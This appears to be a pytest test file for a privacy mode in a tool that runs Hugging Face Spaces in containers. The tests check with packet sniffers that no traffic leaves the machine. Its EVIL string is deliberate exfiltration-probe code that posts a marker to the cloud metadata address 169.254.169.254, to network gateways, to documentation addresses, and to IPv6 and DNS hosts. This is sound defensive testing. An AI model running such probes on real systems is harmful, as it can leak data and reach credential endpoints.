"""In privacy mode nothing leaves this machine, neither of a Space nor of our own; shown by listeners on the way out."""

import ipaddress
import json
import secrets
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import docker
import pytest

from hf_spaces_runner.domain.launch import Network
from tests.engine.apps import app_source
from tests.engine.command_line import Ended, hfsr
from tests.engine.images import script_image
from tests.engine.puppets import attached_puppet, puppet_image, sniffer
from tests.engine.way_out import Outside, Watch, outside
from tests.fakes.model_server import ModelServer, plain

pytestmark = pytest.mark.engine

EVIL = """
import urllib.request
def post(host):
    url = f"http://{host}/v1/chat/completions"
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=marker.encode()), timeout=1.5)
    except OSError:
        return None
    return f"telemetry {host}"
def say6(kind, host):
    try:
        with socket.socket(socket.AF_INET6, kind) as sock:
            sock.settimeout(1)
            sock.connect((host, 443))
            sock.sendall(marker.encode())
            return f"IPv6 {host}" if sock.recv(10) else None
    except OSError:
        return None
def look_up(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return None
routes = [line.split() for line in open("/proc/net/route").read().splitlines()[1:]]
gateways = [socket.inet_ntoa(bytes.fromhex(route[2])[::-1]) for route in routes if route[1] == "00000000"]
name = f"{marker}.example.com"
with concurrent.futures.ThreadPoolExecutor() as pool:
    tried = [
        *(pool.submit(post, host) for host in [*nobody, *gateways, METADATA, name]),
        *(pool.submit(say6, kind, host) for kind in (1, 2) for host in ("2001:db8::7", "2606:4700::1", "ff02::1")),
        *(pool.submit(ask, server, name) for server in ["127.0.0.11", *gateways, *nobody, "1.1.1.1"]),
        pool.submit(look_up, name),
    ]
result = [one.result() for one in tried if one.result()] + probe([*nobody, METADATA], [53, 443, 4317], marker)
"""
METADATA = "169.254.169.254"
ENDS = "raise SystemExit('no')"
ENTRY = """
  {name}:
    id: {name}
    docker_image: {image}
    description: counts the stripes of zebras
    category: specialized
    input_type: text
    output_type: text
    port: 7860
    status: available
    {more}
"""
NO_MODELS = {"HFSR_MODEL_SERVERS": "127.0.0.1:1"}


@pytest.fixture
def registry(beyond: Outside, marker: str, tmp_path: Path) -> Path:
    """Return a registry of two Spaces for the same task: the image of one is outside, the other has to be built."""
    source = app_source("trivial", "5.49.1", tmp_path)
    entries = (
        ENTRY.format(name="is-outside", image=f"{beyond.address}/nobody/stripes:latest", more=""),
        ENTRY.format(name="from-source", image=f"hf-spaces-runner-test/{marker}:latest", more=f"source: {source}"),
    )
    file = tmp_path / "registry.yaml"
    file.write_text(f"spaces:{''.join(entries)}categories: {{specialized: [is-outside, from-source]}}\n")
    return file


@pytest.fixture(scope="module")
def image(docker_client: docker.DockerClient, base_image: str) -> str:
    return puppet_image(docker_client, base_image)


@pytest.fixture(scope="module")
def broken(docker_client: docker.DockerClient, base_image: str) -> str:
    """Return the image of a Space that ends at once."""
    return script_image(docker_client, "leaves-nothing-broken", ENDS, base=base_image)


@pytest.fixture
def marker() -> str:
    return f"leak{uuid.uuid4().hex[:12]}"


@pytest.fixture
def beyond(docker_client: docker.DockerClient) -> Iterator[Outside]:
    """Have somebody on the way out, at an address of this machine where all that leaves is led."""
    host = str(docker_client.api.inspect_network("bridge")["IPAM"]["Config"][0]["Gateway"])
    with outside(host) as found:
        yield found


def evil(marker: str, nobody: list[str]) -> str:
    """Return code that tries all ways out with `marker`; `nobody` are addresses that nobody else talks to."""
    return f"marker, nobody, METADATA = {marker!r}, {nobody!r}, {METADATA!r}\n{EVIL}"


def is_at_home(client: docker.DockerClient, network: Network, target: str) -> bool:
    """Return whether `target` is loopback, on the network of the Space itself, or the kernel's own group there."""
    pool = client.api.inspect_network(network.engine_name)["IPAM"]["Config"][0]
    own = [ipaddress.ip_network(str(pool["Subnet"])), ipaddress.ip_network("127.0.0.0/8")]
    return target == "224.0.0.22" or any(target != "no IPv4" and ipaddress.ip_address(target) in net for net in own)


@pytest.mark.parametrize("option", ["--privacy-mode", "--network=open"])
def test_a_space_that_tries_all_ways_out_sends_no_packet(
    docker_client: docker.DockerClient, image: str, marker: str, tmp_path: Path, option: str
) -> None:
    # RFC 5737 leaves these to examples; what goes there is ours, whoever else uses this machine.
    nobody = [f"{net}.{secrets.randbelow(254) + 1}" for net in ("198.51.100", "203.0.113")]
    network = Network.ISOLATED if option == "--privacy-mode" else Network.OPEN
    words = ["up", image, "--pull", "never", "--json", option, "-e", f"AT_START={evil(f'start-{marker}', nobody)}"]
    with sniffer(docker_client, image, marker=marker, targets=nobody) as sniffed:
        up = hfsr(*words, directory=tmp_path)
        assert up.exit_code == 0, up.stderr
        try:
            space = attached_puppet(docker_client, up.json)
            with sniffer(docker_client, image, marker=marker, source=space.address) as of_it:
                words = ["run", evil(marker, nobody), "--hf-space", image, "--pull", "never", "--json", option]
                ended = hfsr(*words, "--no-fallback", directory=tmp_path)
                assert ended.exit_code == 0, ended.stderr
                frames = sniffed.frames() | of_it.frames()
        finally:
            hfsr("stop", up.json["container"], directory=tmp_path)
    left = {(interface, to) for interface, to in frames if not is_at_home(docker_client, network, to)}
    assert frames - left != set()  # its own call is seen at least
    if option == "--privacy-mode":
        assert json.loads(ended.json["text"]) == []
        assert left == set()
    else:  # so it would be seen
        assert {to for _, to in left} >= {*nobody, METADATA}


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A command, how it ends in privacy, and whether somebody outside is asked for it without."""

    name: str
    words: tuple[str, ...]
    exit_code: int
    verdict: str | None = None
    asks: bool = False
    environment: tuple[tuple[str, str], ...] = ()


CASES = (
    Case(name="a Space", words=("run", "result = 1", "--hf-space", "IMAGE", "--fresh"), exit_code=0),
    Case(
        name="others after one that fails",
        words=("run", "result = 1", "--hf-space", "BROKEN", "--fallback", "nobody/leaves-nothing,IMAGE"),
        exit_code=0,
        asks=True,
    ),
    Case(
        name="those that do the same",
        words=("run", "x", "--hf-space", "is-outside"),
        exit_code=10,
        verdict="image_not_found",
        asks=True,
    ),
    Case(
        name="a name that nobody knows",
        words=("run", "x", "--hf-space", "no-such-space"),
        exit_code=3,
        verdict="unknown_space",
    ),
    Case(
        name="a Space of the Hub",
        words=("run", "x", "--hf-space", "nobody/leaves-nothing", "--no-fallback"),
        exit_code=10,
        verdict="image_not_found",
        asks=True,
    ),
    Case(
        name="an image of a registry",
        words=("run", "x", "--hf-space", "OUTSIDE/nobody/leaves-nothing:latest", "--no-fallback"),
        exit_code=10,
        verdict="image_not_found",
        asks=True,
    ),
    Case(
        name="a Space to be built",
        words=("run", "x", "--hf-space", "from-source", "--no-fallback"),
        exit_code=10,
        verdict="image_not_found",
    ),
    Case(
        name="an image that shall be asked for",
        words=("run", "result = 1", "--hf-space", "IMAGE", "--pull", "always", "--no-fallback"),
        exit_code=2,
        verdict="usage",
    ),
    Case(name="a plan", words=("run", "x", "--hf-space", "nobody/leaves-nothing", "--dry-run"), exit_code=0, asks=True),
    Case(
        name="a model server",
        words=("run", "x", "--hf-space", "IMAGE", "--tier", "fast"),
        exit_code=0,
        environment=(("HFSR_MODEL_SERVERS", "SERVER"),),
    ),
    Case(
        name="a model that may be fetched",
        words=("run", "x", "--hf-space", "BROKEN", "--tier", "fast"),
        exit_code=12,
        verdict="exited_at_start",
        environment=(("HFSR_MODEL_DOWNLOAD", "true"), ("HFSR_LOCAL_MODEL", "nobody/leaves-nothing")),
    ),
    Case(
        name="a cloud that is set up",
        words=("run", "x", "--hf-space", "BROKEN"),
        exit_code=12,
        verdict="exited_at_start",
        environment=(("HFSR_CLOUD_SPACES", "https://nobody-leaves-nothing.hf.space"),),
    ),
    Case(
        name="a cloud that is asked for",
        words=("run", "x", "--hf-space", "BROKEN", "--tier", "cloud"),
        exit_code=6,
        verdict="policy",
        environment=(("HFSR_CLOUD_SPACES", "https://nobody-leaves-nothing.hf.space"),),
    ),
    Case(name="a Space that is up", words=("up", "IMAGE"), exit_code=0),
)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_no_process_of_ours_asks_anybody(
    case: Case, image: str, broken: str, beyond: Outside, registry: Path, tmp_path: Path
) -> None:
    with ModelServer.running(plain("tiny")) as server:
        stands_for = {"IMAGE": image, "BROKEN": broken, "OUTSIDE": beyond.address, "SERVER": server.url}

        def command(*options: str, watch: Watch) -> Ended:
            words = [_filled(word, stands_for) for word in case.words]
            given = {name: _filled(value, stands_for) for name, value in case.environment}
            own = {"HFSR_REGISTRY": str(registry), "HFSR_HOME": str(watch.file.with_suffix(".home"))}
            environment = {**NO_MODELS, **beyond.environment, **watch.environment, **own, **given}
            ended = hfsr(*words, *options, "--json", directory=tmp_path, environment=environment)
            if words[0] == "up" and ended.exit_code == 0:
                hfsr("stop", ended.json["container"], directory=tmp_path, environment=environment)
            return ended

        watch = Watch(tmp_path / "private")
        ended = command("--privacy-mode", watch=watch)
        assert (ended.exit_code, ended.json.get("verdict")) == (case.exit_code, case.verdict), ended.stderr
        assert watch.left() == []
        assert beyond.visits == []
        if case.asks:  # so it would be noticed
            command(watch=Watch(tmp_path / "open"))
            assert beyond.visits != []


def _filled(text: str, stands_for: dict[str, str]) -> str:
    for name, value in stands_for.items():
        text = text.replace(name, value)
    return text


def test_what_a_process_asks_is_noticed(beyond: Outside, tmp_path: Path) -> None:
    watch = Watch(tmp_path / "seen")
    words = ["run", "x", "--hf-space", "nobody/leaves-nothing", "--dry-run"]
    hfsr(*words, directory=tmp_path, environment={**beyond.environment, **watch.environment})
    assert ("host", beyond.host) in watch.left()


@pytest.mark.parametrize(
    ("rule", "words", "says"),
    [
        ({"HFSR_PRIVACY_WORDS": "geheim, zebra stripes"}, ("Zebra\u00ad-Stripes",), "'zebra stripes'"),
        ({"HFSR_PRIVACY_KINDS": "image,.dcm"}, ("x", "-i", "@scan.dcm.gz"), "kind .dcm"),
    ],
)
def test_a_rule_of_the_settings_switches_privacy_on_before_anybody_is_asked(
    rule: dict[str, str], words: tuple[str, ...], says: str, beyond: Outside, tmp_path: Path
) -> None:
    (tmp_path / "scan.dcm.gz").touch()
    watch = Watch(tmp_path / "seen")
    environment = {**NO_MODELS, **beyond.environment, **watch.environment, **rule}
    asked = ("run", *words, "--hf-space", "nobody/leaves-nothing", "--no-fallback", "--json")
    ended = hfsr(*asked, directory=tmp_path, environment=environment)
    assert (ended.exit_code, ended.json["verdict"]) == (10, "image_not_found"), ended.stderr
    assert f"Privacy mode is on, as {'the prompt has the word' if 'stripes' in says else 'a file'}" in ended.stderr
    assert says in ended.stderr
    assert watch.left() == []
    assert beyond.visits == []


def test_a_rule_wins_over_an_open_network_and_a_message_of_a_chat_is_not_sent(image: str, tmp_path: Path) -> None:
    rule = {**NO_MODELS, "HFSR_PRIVACY_WORDS": "geheim"}
    words = ["--hf-space", image, "--pull", "never", "--json"]
    ended = hfsr("run", "'Geheim'", *words, "--network", "open", directory=tmp_path, environment=rule)
    assert (ended.exit_code, ended.json["verdict"]) == (2, "usage")
    said = "shared['told'] = 1; result = 1\nshared['told'] = 'geheim'\nresult = shared['told']\n"
    chat = hfsr("run", "--chat", *words, directory=tmp_path, environment=rule, stdin=said)
    answers = [json.loads(line) for line in chat.stdout.splitlines()]
    assert [answer.get("verdict") or answer["text"] for answer in answers] == ["1", "needs_privacy", "1"], chat.stderr
    private = hfsr("run", "--chat", *words, "--privacy-mode", directory=tmp_path, environment=rule, stdin=said)
    assert [json.loads(line).get("text") for line in private.stdout.splitlines()] == ["1", "null", '"geheim"']
